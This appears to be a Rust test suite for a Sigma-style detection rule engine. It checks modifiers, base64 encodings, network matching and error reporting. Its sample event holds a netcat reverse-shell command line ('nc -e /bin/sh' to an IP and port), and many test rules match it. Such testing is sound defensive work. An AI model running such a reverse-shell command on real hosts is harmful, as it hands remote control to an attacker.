//! What rules mean, as tables: the shapes of selections, every modifier, and what is refused.
#![allow(clippy::unwrap_used, clippy::panic)]

use quantumos_detect::{Class, Fate, Field, Record, RuleSet, Source, Value};

fn compiled(detection: &str) -> RuleSet {
    let text =
        format!("title: t\nlogsource:\n  category: process_creation\ndetection:\n{detection}");
    RuleSet::compile([Source {
        name: "t.yml",
        text: &text,
    }])
}

fn event() -> Record {
    Record::new(Class::ProcessCreation)
        .with(Field::Image, "/usr/bin/Nc.openbsd")
        .with(Field::CommandLine, r"nc -e /bin/sh 10.0.0.1 4444 C:\temp\*")
        .with(Field::User, "alice")
        .with(Field::ParentUser, "Alice")
        .with(Field::CurrentDirectory, "")
        .with(Field::AncestorImages, "/bin/bash")
        .with(Field::AncestorImages, "/usr/sbin/nginx")
        .with_value(Field::ProcessId, Value::Number(1234))
}

#[test]
fn selections_and_modifiers() {
    let cases: &[(&str, bool)] = &[
        // Whole values, case, wildcards, escapes.
        ("Image: /usr/bin/nc.openbsd", true),
        ("Image: /usr/bin/nc", false),
        ("Image|cased: /usr/bin/nc.openbsd", false),
        ("Image|cased: /usr/bin/Nc.openbsd", true),
        ("Image: '*/nc.*'", true),
        ("Image: '/usr/bin/n?.openbsd'", true),
        ("Image: '/usr/bin/n?c.openbsd'", false),
        (r"CommandLine|endswith: 'C:\temp\\\*'", true),
        (r"CommandLine|endswith: 'temp\\*'", true),
        (r"CommandLine|endswith: 'tempx\*'", false),
        // Text modifiers.
        ("Image|endswith: .OPENBSD", true),
        ("Image|startswith: /usr/BIN/", true),
        ("Image|startswith: bin", false),
        ("CommandLine|contains: ' -e '", true),
        ("CommandLine|contains|cased: ' -E '", false),
        ("CommandLine|contains: ['zzz', '/bin/sh']", true),
        ("CommandLine|contains|all: ['nc', '/bin/sh']", true),
        ("CommandLine|contains|all: ['nc', 'zzz']", false),
        ("CommandLine|contains: 'sh*4444'", true),
        ("CommandLine|contains|windash: ' /e '", true),
        ("User|neq: bob", true),
        ("User|neq: [bob, ALICE]", false),
        // Regular expressions keep case unless told.
        (r"CommandLine|re: '\s-e\s'", true),
        (r"CommandLine|re: '\s-E\s'", false),
        (r"CommandLine|re|i: '\s-E\s'", true),
        // Numbers, networks, presence.
        ("ProcessId: 1234", true),
        ("ProcessId: '1234'", true),
        ("ProcessId: 123", false),
        ("ProcessId|gt: 1233", true),
        ("ProcessId|gt: 1234", false),
        ("ProcessId|gte: 1234", true),
        ("ProcessId|lt: 1235", true),
        ("ProcessId|lte: 1233", false),
        ("User|exists: true", true),
        ("Unit|exists: true", false),
        ("Unit|exists: false", true),
        ("Unit: null", true),
        ("User: null", false),
        ("CurrentDirectory: null", true),
        ("CurrentDirectory: ''", true),
        ("User: ''", false),
        ("User|fieldref: ParentUser", true),
        ("User|cased|fieldref: ParentUser", false),
        ("CommandLine|contains|fieldref: User", false),
        // Lists of values in an event: any element.
        ("AncestorImages|endswith: /nginx", true),
        ("AncestorImages: /usr/sbin/sshd", false),
        // Fields that events don't have.
        ("NoSuchField: x", false),
        ("NoSuchField: null\n    User: alice", true),
    ];
    for (test, expected) in cases {
        let set = compiled(&format!("  s:\n    {test}\n  condition: s\n"));
        assert!(
            !matches!(set.report[0].fate, Fate::Failed(_)),
            "{test}: {:?}",
            set.report[0].fate
        );
        let mut scratch = set.matcher.scratch();
        assert_eq!(
            !set.matcher.matches(&event(), &mut scratch).is_empty(),
            *expected,
            "{test}"
        );
    }
}

#[test]
fn shapes_of_detections() {
    let cases: &[(&str, bool)] = &[
        (
            "  s: {User: alice, Image|endswith: openbsd}\n  condition: s\n",
            true,
        ),
        (
            "  s: {User: bob, Image|endswith: openbsd}\n  condition: s\n",
            false,
        ),
        (
            "  s:\n    - User: bob\n    - Image|endswith: openbsd\n  condition: s\n",
            true,
        ),
        ("  k: [zzz, '/bin/sh']\n  condition: k\n", true),
        ("  k: 'nc*4444'\n  condition: k\n", true),
        ("  k:\n    '|all': [nc, zzz]\n  condition: k\n", false),
        ("  k:\n    - nc -e\n    - User: bob\n  condition: k\n", true),
        (
            "  a: {User: alice}\n  b: {User: bob}\n  condition: [b, a and not b]\n",
            true,
        ),
        (
            "  a1: {User: alice}\n  a2: {User: bob}\n  a3: {ProcessId: 1234}\n  condition: 2 of a*\n",
            true,
        ),
        (
            "  a1: {User: alice}\n  a2: {User: bob}\n  a3: {ProcessId: 1}\n  condition: 2 of a*\n",
            false,
        ),
        (
            "  a: {User: alice}\n  _b: {User: bob}\n  condition: all of them\n",
            true,
        ),
    ];
    for (detection, expected) in cases {
        let set = compiled(detection);
        let mut scratch = set.matcher.scratch();
        assert_eq!(
            !set.matcher.matches(&event(), &mut scratch).is_empty(),
            *expected,
            "{detection} {:?}",
            set.report
        );
    }
}

#[test]
fn encodings() {
    for (test, line) in [
        ("base64: /bin/sh", "L2Jpbi9zaA=="),
        (
            "base64offset|contains: /bin/sh",
            "echo eCAvYmluL3NoIHg= | base64 -d",
        ),
        ("wide|base64offset|contains: sh", "cwBoAA=="),
    ] {
        let set = compiled(&format!("  s:\n    CommandLine|{test}\n  condition: s\n"));
        let event = Record::new(Class::ProcessCreation).with(Field::CommandLine, line);
        assert_eq!(
            set.matcher.matches(&event, &mut set.matcher.scratch()),
            [0],
            "{test} {:?}",
            set.report
        );
    }
}

#[test]
fn networks_match_addresses() {
    let text = "title: t\nlogsource: {category: network_connection}\ndetection:\n  s:\n    DestinationIp|cidr: ['10.0.0.0/8', '::1']\n    DestinationPort: [22, 2222]\n    Initiated: 'true'\n  condition: s\n";
    let set = RuleSet::compile([Source {
        name: "t.yml",
        text,
    }]);
    for (ip, port, initiated, expected) in [
        ("10.1.2.3", 22, true, true),
        ("11.1.2.3", 22, true, false),
        ("::1", 2222, true, true),
        ("10.1.2.3", 23, true, false),
        ("10.1.2.3", 22, false, false),
    ] {
        let event = Record::new(Class::NetworkConnection)
            .with_value(Field::DestinationIp, Value::Address(ip.parse().unwrap()))
            .with_value(Field::DestinationPort, Value::Number(port))
            .with_value(Field::Initiated, Value::Flag(initiated));
        assert_eq!(
            !set.matcher
                .matches(&event, &mut set.matcher.scratch())
                .is_empty(),
            expected,
            "{ip} {port}"
        );
    }
}

#[test]
fn refuses_with_the_line() {
    let cases: &[(&str, u32, &str)] = &[
        (
            "  s:\n    Image|endwith: x\n  condition: s\n",
            6,
            "unknown modifier `endwith`",
        ),
        (
            "  s:\n    Image|re: '('\n  condition: s\n",
            6,
            "regular expression",
        ),
        (
            "  s:\n    Image|re: '(a{1000}){1000}'\n  condition: s\n",
            6,
            "regular expression",
        ),
        (
            "  s:\n    Image|re: '(?=a)'\n  condition: s\n",
            6,
            "look-around",
        ),
        ("  s:\n    Image|i: x\n  condition: s\n", 6, "must follow"),
        (
            "  s:\n    Image|cidr: 10.0.0.0/99\n  condition: s\n",
            6,
            "not a network",
        ),
        (
            "  s:\n    ProcessId|gt: many\n  condition: s\n",
            6,
            "whole number",
        ),
        (
            "  s:\n    Image|exists: maybe\n  condition: s\n",
            6,
            "true or false",
        ),
        (
            "  s:\n    Image|contains: null\n  condition: s\n",
            6,
            "null",
        ),
        (
            "  s:\n    Image|expand: '%x'\n  condition: s\n",
            6,
            "placeholders",
        ),
        (
            "  s:\n    Image|base64: 'a*'\n  condition: s\n",
            6,
            "wildcard",
        ),
        ("  s:\n    Image: {a: b}\n  condition: s\n", 6, "not a map"),
        ("  s:\n    Image: []\n  condition: s\n", 6, "empty list"),
        (
            "  s:\n    Image: [[a]]\n  condition: s\n",
            6,
            "single value",
        ),
        ("  s: []\n  condition: s\n", 5, "empty selection"),
        ("  s: {}\n  condition: s\n", 5, "empty selection"),
        ("  s: [[a]]\n  condition: s\n", 5, "list inside"),
        ("  condition: s\n", 5, "no selection"),
        ("  s: x\n", 5, "`condition` is missing"),
        ("  s: x\n  condition: t\n", 6, "no selection `t`"),
        ("  s: x\n  condition: []\n", 6, "empty list"),
        ("  s: x\n  condition: {a: b}\n", 6, "must be text"),
        ("  s: x\n  timeframe: 5m\n  condition: s\n", 6, "timeframe"),
        ("  s: &a x\n  t: *a\n  condition: s\n", 6, "alias"),
    ];
    for (detection, line, reason) in cases {
        let set = compiled(detection);
        let Fate::Failed(error) = &set.report[0].fate else {
            panic!("{detection}: {:?}", set.report[0].fate)
        };
        assert!(error.reason.contains(reason), "{detection}: {error}");
        assert_eq!(error.line, *line, "{detection}: {error}");
    }
}

#[test]
fn refuses_wrong_rules_and_keeps_the_others() {
    let good = "title: good\nid: a\nlogsource: {category: file_event}\ndetection: {s: {TargetFilename: x}, condition: s}\n";
    let files = [
        ("good.yml", good, "Loaded"),
        ("again.yml", good, "already that of a rule in good.yml"),
        ("list.yml", "- 1\n", "a rule is a map"),
        ("empty.yml", "", "holds no rule"),
        ("untitled.yml", "id: b\n", "`title` is missing"),
        ("level.yml", "title: x\nlevel: severe\n", "level is one of"),
        ("id.yml", "title: x\nid: 'a b'\n", "the id"),
        (
            "source.yml",
            "title: x\nlogsource: linux\n",
            "must be a map",
        ),
        (
            "windows.yml",
            "title: w\nlogsource: {product: windows}\ndetection: {s: x, condition: s}\n",
            "for windows",
        ),
        (
            "correlation.yml",
            "title: c\ncorrelation: {type: event_count}\n",
            "correlation",
        ),
        (
            "never.yml",
            "title: n\nlogsource: {category: file_event}\ndetection: {s: {Nothing: x}, condition: s}\n",
            "it needs Nothing",
        ),
        (
            "two.yml",
            "title: one\nlogsource: {category: file_event}\ndetection: {s: y, condition: s}\n---\ntitle: two\n",
            "Loaded",
        ),
    ];
    let set = RuleSet::compile(files.iter().map(|(name, text, _)| Source { name, text }));
    for (name, _, expected) in files {
        let listed = set.report.iter().find(|l| l.file == name).unwrap();
        assert!(
            format!("{:?}", listed.fate).contains(expected),
            "{name}: {:?}",
            listed.fate
        );
    }
    assert_eq!(set.counts(), (2, 2, 9));
    assert_eq!(set.matcher.rules(), 2);
    let event = Record::new(Class::FileEvent).with(Field::TargetFilename, "x");
    assert_eq!(set.matcher.matches(&event, &mut set.matcher.scratch()), [0]);
}

#[test]
fn explains_what_held() {
    let set = compiled(
        "  s:\n    Image|contains: nc\n    CommandLine|contains: [zzz, ' -e ']\n  f: {User: bob}\n  condition: s and not f\n",
    );
    assert_eq!(
        set.matcher.matches(&event(), &mut set.matcher.scratch()),
        [0]
    );
    let words: Vec<String> = set
        .matcher
        .explain(0, &event())
        .iter()
        .map(|e| format!("{} {}", e.field.name(), e.test))
        .collect();
    assert_eq!(
        words,
        ["Image contains \"nc\"", "CommandLine contains \" -e \""]
    );
}

#[test]
fn hostile_text_is_just_bytes() {
    let set =
        compiled("  s:\n    CommandLine|contains: needle\n    Image|re: 'a.b'\n  condition: s\n");
    let mut line = vec![0xff; 1 << 20];
    line.extend_from_slice(b"\nNEEDLE\0");
    let event = Record::new(Class::ProcessCreation)
        .with(Field::CommandLine, line)
        .with(Field::Image, &b"a\xffb"[..]);
    assert_eq!(set.matcher.matches(&event, &mut set.matcher.scratch()), [0]);
}

/// A rule that uses much of the language, for tests that damage it.
const WHOLE: &str = "title: t
id: 1
tags: [attack.t1]
logsource: {product: linux, category: process_creation}
detection:
  a:
    - Image|endswith: [/nc, '*?x']
      CommandLine|contains|all: ['a', \"b\"]
    - User|re|i: '^r(o|0)+t$'
  b: {ProcessId|gte: 5, DestinationIp|cidr: 10.0.0.0/8, Unit: null}
  k: ['word', other]
  condition: 1 of a* and not (b or k)
level: high
";

proptest::proptest! {
    #[test]
    fn a_damaged_rule_is_refused_or_read_but_never_a_panic(
        cuts in proptest::collection::vec((0..WHOLE.len(), 0..12_usize, "[a-z|*?:'\"\\[\\]{}\\-,&# \n\\\\]{0,4}"), 1..6),
    ) {
        let mut text = WHOLE.to_string();
        for (at, length, new) in cuts {
            let at = at.min(text.len());
            let end = (at + length).min(text.len());
            text.replace_range(at..end, &new);
        }
        let set = RuleSet::compile([Source { name: "r.yml", text: &text }]);
        proptest::prop_assert!(!set.report.is_empty());
        let mut scratch = set.matcher.scratch();
        let found = set.matcher.matches(&event(), &mut scratch).to_vec();
        for rule in found {
            let _ = set.matcher.explain(rule, &event());
        }
        if let Fate::Failed(error) = &set.report[0].fate {
            proptest::prop_assert!(error.line >= 1 && error.line as usize <= text.lines().count() + 1, "{}", error);
        }
    }
}
